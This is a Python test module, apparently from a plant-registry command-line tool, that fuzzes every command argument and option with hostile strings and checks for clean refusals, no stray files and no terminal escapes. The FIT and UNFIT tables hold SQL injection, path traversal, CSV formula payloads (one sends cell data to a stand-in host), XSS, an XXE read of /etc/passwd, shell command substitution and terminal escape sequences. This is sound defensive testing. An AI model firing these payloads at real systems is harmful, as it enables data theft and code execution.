"""Hostile text in every place that takes text: what is tried, and how every command is called.

The commands are found by asking the command line itself, so that a new command or option is tried
without being named here. A line in `CALLS` makes the rest of its call a good one, so that the text
gets further.
"""

from __future__ import annotations

import os
import shutil
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import click

from registry.cli.app import main_command
from registry.domain.signs import unfit
from tests.faults.places import REGISTRY, Place, Said, fresh
from tests.faults.table import Row

FIT = {
    # OWASP, SQL Injection; the tables are ours
    "sql": "x'); DROP TABLE plant; --",
    "sql or": '" OR 1=1 --',
    "sql like": "%_%",
    # OWASP, Path Traversal
    "path": "../../../outside/stolen",
    "path absolute": "/outside/stolen",
    "path of windows": "..\\..\\outside\\stolen",
    # OWASP, CSV Injection
    "formula =": '=HYPERLINK("http://example.org/?"&A1,"open")',
    "formula +": "+SUM(1)*cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)",
    "formula full-width": "＝1+2",
    # OWASP, Cross Site Scripting; XML 1.0, section 4; PDF 32000-1, section 7.3.4; DOT's grammar
    "html": "<script>alert(1)</script>",
    "svg": '"/><image href="http://example.org/x.png" onload="alert(1)"/>',
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "pdf": ") Tj ET (",
    "dot": '"]; evil [label="\\N',
    "json": '","verdict":"clear","x":"',
    "printer": "^XA^FDowned^FS^XZ ~JA",
    "format": "{0.__class__} %s %n ${x} {{7*7}}",
    "shell": "$(touch stolen) `touch stolen` ; touch stolen",
    # not hostile, only awkward
    "long": "rose " * 2_000,
    "piled": "a" + "\N{COMBINING ACUTE ACCENT}" * 200,
    "far": "\U0001f339 \U00020000 \N{ZERO WIDTH JOINER}",
    "lines": "first\nsecond\tthird",
    "digits": "٣٤",
    "nothing": "",
    "blank": " \N{NO-BREAK SPACE} ",
    "number": "99999999999999999999999999999999999",
    "minus": "-1",
    "nan": "NaN",
}
"""Texts that mean something to some other program; to this one they are words like any other."""

UNFIT = {
    "NUL": "rose\x00alba",
    "escape": "rose\x1b]0;owned\x07\x1b[2J",
    "one-sign escape": "rose\x9b2J",
    "backspace": "barred\b\b\b\b\b\bclear",
    "carriage return": "barred\rclear ",
    "turned round": "rose \N{RIGHT-TO-LEFT OVERRIDE}derrab",
    "half a pair": "rose\udcff",
    "separator": "rose\N{LINE SEPARATOR}sell all",
}
"""Texts with a sign that may stand nowhere (`registry.domain.signs`)."""

CALLS = {
    # command: the words that make it a good call, in the registry of `garden`
    "settings set": "currency EUR",
    "person add": "Cy",
    "person show": "Ann",
    "place add": "Bed",
    "place rename": "Bench Shelf",
    "plant add": "Fern --owner me",
    "plant end": "P1 --how died",
    "plant list": "",
    "plant mark": "P1 --no-tag",
    "plant match": "26-0005-001-X --from F1",
    "plant mixup": "F1 --contradicted F1",
    "plant name": "F1 Rosa",
    "plant orphan": "Fuchsia",
    "plant same": "F1 F2",
    "plant show": "F1",
    "plant sport": "F1 Rosa",
    "note": "F1 words",
    "attach": "F1 leaf.txt",
    "consent add": "--from Ann --plant F2 --may propagate",
    "consent list": "F2",
    "consent withdraw": "1",
    "licence add": "PP1 --from Ann --may propagate",
    "right add": "us-plant-patent PP2 --name Rosa",
    "right event": "PP1 --status lapsed --source letter",
    "right lookup": "Rosa --in US --where register --found none",
    "restriction add": "Rosa --in US --acts sell --citation law",
    "restriction import": "rules.csv",
    "came": "F1 --notice words",
    "hold add": "F1 --reason mites",
    "hold lift": "F2",
    "may": "sell F1",
    "settle": "F1 --cannot died",
    "take": "F1 --count 3",
    "stick": "F1 --count 3 --open",
    "graft": "--scion F1 --rootstock F1 --count 3 --open",
    "sow": "--seed-parent F1 --count 3 --open",
    "divide": "F1 --count 3 --open",
    "layer": "F1 --count 3 --open",
    "split": "B1 --into 2",
    "merge": "B1=1 B2=1",
    "look": "B1 --rooted 2",
    "recount": "B1 5 --reason counted",
    "pot-up": "B1 --count 1",
    "pot-on": "P1 --pot 1L",
    "batch close": "B1 --rest lost",
    "batch show": "B1",
    "label bind": "26-0006-X P1",
    "label print": "P1 --out out.pdf",
    "label stocks": "",
    "label test-page": "--out out.pdf",
    "label text": "P1",
    "label blank": "1 --out out.pdf",
    "read": "F1",
    "trace": "F1",
    "tally": "",
    "sell": "P1 --anyway asked",
    "give": "P1 --to Bob --purpose private --open",
    "swap": "P1 --got Fern --purpose private --open",
    "receive": "Fern --from Ann",
    "recall start": "F1 --reason mites",
    "recall close": "1 --finding nothing",
    "recall export": "1 out.csv",
    "recall more": "1 --hold",
    "recall tick": "1 F2 --found sound",
    "correct": "last --void slip",
    "bench": "lines.txt",
    "backup": "copy.sqlite",
    "restore": "whole.sqlite --replace",
}


@dataclass(frozen=True, slots=True)
class Slot:
    """A place of a command that takes text: an option, or the word at a place."""

    command: str
    option: str = ""
    word: int = -1

    @property
    def name(self) -> str:
        """As a test's id."""
        return f"{self.command} {self.option or self.word}"


def commands(
    group: click.Group = main_command, above: tuple[str, ...] = ()
) -> Iterator[tuple[str, click.Command]]:
    """Every command that does something, by its words."""
    context = click.Context(group)
    for name in group.list_commands(context):
        command = group.get_command(context, name)
        if isinstance(command, click.Group):
            yield from commands(command, (*above, name))
        elif command is not None:
            yield " ".join((*above, name)), command


def slots(name: str, command: click.Command) -> list[Slot]:
    """Where a command takes text."""
    found = []
    words = words_of(name, command)
    before = next((at for at, word in enumerate(words) if word.startswith("--")), len(words))
    found += [Slot(name, word=word) for word in range(before)]
    for param in command.params:
        if isinstance(param, click.Option) and not param.is_flag and param.opts[0] != "--registry":
            found.append(Slot(name, option=param.opts[0]))
    return found


def every_slot() -> list[Slot]:
    """Every place of every command that takes text."""
    return [slot for name, command in commands() for slot in slots(name, command)]


def words_of(name: str, command: click.Command) -> list[str]:
    """The words that make a call of a command: from `CALLS`, or whatever fits its shape."""
    if name in CALLS:
        return CALLS[name].split()
    words = ["F1" for param in command.params if isinstance(param, click.Argument)]
    for param in command.params:
        if isinstance(param, click.Option) and param.required:
            words += [param.opts[0], "words"]
    return words


def garden(folder: Path) -> Place:
    """A registry in which every call of `CALLS` is a good one, and the files that they name."""
    place = fresh(folder)
    for line in (
        "person add Ann", "person add Bob", "place add Bench",
        "plant add Rosa --owner me --number F1", "plant add Hydrangea --owner Ann --number F2",
        "stick F1 --count 20 --number B1 --open", "stick F1 --count 20 --number B2 --open",
        "pot-up B1 --count 3", "pot-up B2 --count 1 --number P1",
        "plant orphan Fuchsia", "consent add --from Ann --plant F2 --may propagate",
        "right add us-plant-patent PP1 --name Ficus", "hold add F2 --reason mites",
        "recall start F2 --reason mites",
    ):  # fmt: skip
        said = place.run(*line.split())
        assert said.exit == 0, (line, said)
    assert place.run("label", "blank", "1", "--out", str(folder / "blank.pdf")).exit == 0
    (folder / "leaf.txt").write_text("a leaf")
    (folder / "lines.txt").write_text("note F1 seen\n")
    (folder / "rules.csv").write_text("taxon,territory,acts,citation\nRosa,US,sell,a law\n")
    assert place.run("backup", str(folder / "whole.sqlite")).exit == 0
    return place


def call(place: Place, slot: Slot, text: str) -> Said:
    """Call a command with `text` in one of its places."""
    words = words_of(slot.command, dict(commands())[slot.command])
    if slot.option:
        words = without(words, slot.option)
        words += [f"{slot.option}={text}"] if slot.option.startswith("--") else [slot.option, text]
    else:
        words[slot.word] = text
        if text.startswith("-"):
            words = [*words[: slot.word], *words[slot.word + 1 :], "--", text]
    return place.run(*slot.command.split(), *words)


def without(words: list[str], option: str) -> list[str]:
    """A call's words without an option and its value."""
    if option not in words:
        return words
    at = words.index(option)
    return [*words[:at], *words[at + 2 :]]


def tried(place: Place, slot: Slot, text: str) -> Said:
    """Call a command with `text`, and hold what comes of it to what holds for every call.

    The command runs in the folder of the registry, which has nothing but the files of `garden`.

    Raises:
        AssertionError: it was not refused in one plain sentence with nothing written, or it wrote
            where it was not told to, or said something that steers a terminal.
        Exception: an error that is not one of ours.
    """
    around = sorted(place.file.parent.parent.iterdir())
    before = place.file.read_bytes()
    said = call(place, slot, text)
    assert said.exit in (0, 1, 2), said
    assert unfit(said.out + said.err) is None, said
    assert "Traceback" not in said.err, said
    assert sorted(place.file.parent.parent.iterdir()) == around, "a file beside the folder"
    assert not Path("/outside").exists()
    assert not (place.file.parent / "stolen").exists()
    if said.exit == 2:
        assert not said.out, said
        assert said.err.strip(), said
        assert place.file.read_bytes() == before, said
    if unfit(text):
        assert said.exit == 2, said
        assert f"U+{ord(unfit(text) or ''):04X}" in said.err, said
    return said


def copied(garden: Path, box: Path, go_into: Callable[[Path], object]) -> Place:
    """The garden copied into a folder in `box`, which has nothing else and is gone into."""
    shutil.rmtree(box, ignore_errors=True)
    folder = box / "garden"
    shutil.copytree(garden, folder)
    go_into(folder)
    return Place(folder / REGISTRY)


def run(folder: Path, share: int) -> Row:
    """Try one in `share` of all texts in all places, so that every place has its turn.

    Args:
        folder: an empty folder.
        share: 1 tries every text everywhere.
    """
    garden_folder = folder / "garden"
    garden_folder.mkdir()
    ends: Counter[int] = Counter()
    here = Path.cwd()
    texts = {**FIT, **UNFIT}
    try:
        os.chdir(garden_folder)
        garden(garden_folder)
        for at, slot in enumerate(every_slot()):
            for number, (name, text) in enumerate(texts.items()):
                if (at + number) % share:
                    continue
                place = copied(garden_folder, folder / "box", os.chdir)
                try:
                    ends[tried(place, slot, text).exit] += 1
                except BaseException as error:
                    error.add_note(f"{slot.name}: {name}")
                    raise
    finally:
        os.chdir(here)
    return Row(
        f"{len(texts)} hostile texts (SQL, paths, formulas, mark-up, signs that steer a terminal) "
        f"in {len(every_slot())} places of {len(dict(commands()))} commands",
        ends.total(),
        f"{ends[0]} were words like any other, {ends[2]} were refused in a sentence, {ends[1]} "
        "were answered with no",
        "no error but ours; a refusal wrote nothing; no file where none was asked for; nothing on "
        "the terminal that steers it",
    )
